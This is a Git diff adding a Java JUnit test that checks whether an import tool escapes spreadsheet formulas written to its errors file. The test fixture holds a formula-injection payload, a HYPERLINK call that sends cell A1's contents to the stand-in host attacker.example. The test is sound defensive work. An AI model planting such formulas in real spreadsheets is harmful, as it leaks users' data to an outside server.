@@ -94,6 +94,28 @@ class DropFolderAttacksTest {
                 .containsExactlyInAnyOrder("First Row", "Second Row", "Third Row");
     }
 
+    @Test
+    void workbookTextThatLooksLikeAFormulaIsEscapedInTheErrorsFile() throws IOException {
+        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
+        try (org.apache.poi.xssf.usermodel.XSSFWorkbook wb = new org.apache.poi.xssf.usermodel.XSSFWorkbook()) {
+            org.apache.poi.xssf.usermodel.XSSFSheet sheet = wb.createSheet("Leads");
+            org.apache.poi.ss.usermodel.Row header = sheet.createRow(0);
+            header.createCell(0).setCellValue("Full Name");
+            header.createCell(1).setCellValue("Email");
+            header.createCell(2).setCellValue("Notes");
+            org.apache.poi.ss.usermodel.Row row = sheet.createRow(1);
+            // a text cell (not a formula) in the workbook; the row fails: no name
+            row.createCell(1).setCellValue("not-an-address");
+            row.createCell(2).setCellValue("=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")");
+            wb.write(bytes);
+        }
+        APP.drop(bytes.toByteArray(), "formula.xlsx");
+
+        Path errors = APP.done().resolve("formula.xlsx" + ImportReport.ERRORS_SUFFIX);
+        await().atMost(WAIT).until(() -> Files.exists(APP.done().resolve("formula.xlsx")));
+        assertThat(Files.readString(errors)).contains("'=HYPERLINK(").doesNotContain(",=HYPERLINK(", "\"=HYPERLINK(");
+    }
+
     private static String allText(Path dir) throws IOException {
         StringBuilder sb = new StringBuilder();
         try (Stream<Path> files = Files.walk(dir)) {
